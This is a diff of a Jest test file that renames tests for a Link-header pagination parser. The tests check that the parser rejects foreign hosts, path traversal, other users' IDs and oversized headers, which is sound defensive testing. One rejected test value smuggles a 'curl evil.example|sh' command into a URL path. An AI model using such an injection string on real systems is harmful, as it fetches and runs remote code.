@@ -7,41 +7,41 @@ const self = `<${origin}/api/v1/users?limit=2>; rel="self"`;
 const next = `<${origin}/api/v1/users?after=100u65xtp32NovHoPx1d7&limit=2>; rel="next"`;
 
 describe('nextLink', () => {
-  test('reads two header lines and one joined line alike', () => {
+  test('reads a Link header sent as two lines or as one joined line', () => {
     const path = '/api/v1/users?after=100u65xtp32NovHoPx1d7&limit=2';
     expect(nextLink([self, next], first)).toBe(path);
     expect(nextLink(`${self}, ${next}`, first)).toBe(path);
     expect(nextLink(`${next}, ${self}`, first)).toBe(path);
   });
 
-  test('takes commas, quotes and semicolons inside the URL as part of it', () => {
+  test('accepts commas, quotes and semicolons inside the URL of a link', () => {
     const url = `${origin}/api/v1/logs?filter=eventType%20eq%20%22a%22,b;c&after=1_1`;
     expect(nextLink(`<${url}>; rel="next"`, `${origin}/api/v1/logs`)).toBe(url.slice(origin.length));
   });
 
-  test('is undefined on the last page, and without a header that names a next one', () => {
+  test('returns no next link on the last page or without a usable Link header', () => {
     expect(nextLink([self], first)).toBeUndefined();
     expect(nextLink(undefined, first)).toBeUndefined();
     expect(nextLink('next, please', first)).toBeUndefined();
   });
 
-  test('a link to the next page that cannot be read is an error, not the end of the list', () => {
+  test('throws for an unreadable next link instead of ending the list', () => {
     expect(() => nextLink(`${origin}/api/v1/users?after=x; rel="next"`, first)).toThrow(
       expect.objectContaining({ category: 'unexpected_response' }),
     );
   });
 
-  test('reads the relation whatever its case', () => {
+  test('reads the relation of a link in any case', () => {
     expect(nextLink(`<${origin}/api/v1/users?after=x>; REL="NEXT"`, first)).toBe('/api/v1/users?after=x');
   });
 
-  test('reads a link that is relative to its page', () => {
+  test('resolves a next link relative to its page', () => {
     const page = `${origin}/api/v1/users?limit=2`;
     expect(nextLink('</api/v1/users?after=x>; rel=next', page)).toBe('/api/v1/users?after=x');
     expect(nextLink('<?after=x>; rel="next"', page)).toBe('/api/v1/users?after=x');
   });
 
-  test('is not misled by a URL that merely contains the word next', () => {
+  test('ignores a link whose URL merely contains the word next', () => {
     expect(nextLink(`<${origin}/api/v1/users?q=next>; rel="self"`, first)).toBeUndefined();
   });
 
@@ -50,20 +50,20 @@ describe('nextLink', () => {
     'http://acme.okta.com',
     'https://acme.okta.com:8443',
     'https://acme.okta.com.evil.example',
-  ])('refuses to follow a link to %s', (foreign) => {
+  ])('rejects a next link to %s', (foreign) => {
     expect(() => nextLink(`<${foreign}/api/v1/users?after=x>; rel="next"`, first)).toThrow(
       expect.objectContaining({ category: 'unexpected_response', field: 'orgUrl' }),
     );
   });
 
-  test('follows a link to the admin host of the same org on the org URL', () => {
+  test('follows a next link to the admin host of the same org on the org URL', () => {
     expect(nextLink('<https://acme-admin.okta.com/api/v1/users?after=x>; rel="next"', first)).toBe(
       '/api/v1/users?after=x',
     );
   });
 });
 
-describe('nextLink and other lists', () => {
+describe('next links to other lists', () => {
   const groups = `${origin}/api/v1/users/grace%40acme.example/groups`;
 
   test.each([
@@ -73,31 +73,31 @@ describe('nextLink and other lists', () => {
     "/api/v1/users';curl evil.example|sh;'?after=x",
     '/api/v1/users/../groups?after=x',
     '/?after=x',
-  ])('refuses to follow a list of users to %s', (path) => {
+  ])('rejects a next link from a list of users to %s', (path) => {
     expect(() => nextLink(`<${origin}${path}>; rel="next"`, first)).toThrow(
       expect.objectContaining({ category: 'unexpected_response' }),
     );
   });
 
-  test('goes on with the login that was asked for where the link names an ID', () => {
+  test('keeps the requested login when the next link names an ID', () => {
     const link = `<${origin}/api/v1/users/00ugrace000000000001/groups?after=x>; rel="next"`;
     expect(nextLink(link, groups)).toBe('/api/v1/users/grace%40acme.example/groups?after=x');
   });
 
-  test.each(['omar%40acme.example', '..', "x'y"])('refuses another login: %s', (user) => {
+  test.each(['omar%40acme.example', '..', "x'y"])('rejects a next link to another login: %s', (user) => {
     expect(() => nextLink(`<${origin}/api/v1/users/${user}/groups?after=x>; rel="next"`, groups)).toThrow(
       expect.objectContaining({ category: 'unexpected_response' }),
     );
   });
 
-  test('refuses another ID than the one asked for', () => {
+  test('rejects a next link to another ID than the requested one', () => {
     const page = `${origin}/api/v1/users/00ugrace000000000001/groups`;
     expect(() => nextLink(`<${origin}/api/v1/users/00uomar0000000000001/groups?after=x>; rel="next"`, page)).toThrow(
       expect.objectContaining({ category: 'unexpected_response' }),
     );
   });
 
-  test('a header beyond every bound is not read', () => {
+  test('rejects an oversized Link header', () => {
     expect(() => nextLink(`${next}${' '.repeat(20_000)}`, first)).toThrow('Cannot read');
   });
 });
@@ -108,7 +108,7 @@ describe('isSamePage', () => {
     ['/api/v1/users?filter=a%20eq%20%22b%22&limit=2', '/api/v1/users?limit=2&filter=a+eq+%22b%22', true],
     ['/api/v1/users?limit=2', '/api/v1/users?after=x&limit=2', false],
     ['/api/v1/users?limit=2', '/api/v1/groups?limit=2', false],
-  ])('of %s and %s says %s', (one, other, same) => {
+  ])('compares the pages %s and %s: the same page is %s', (one, other, same) => {
     expect(isSamePage(one, other)).toBe(same);
   });
 });
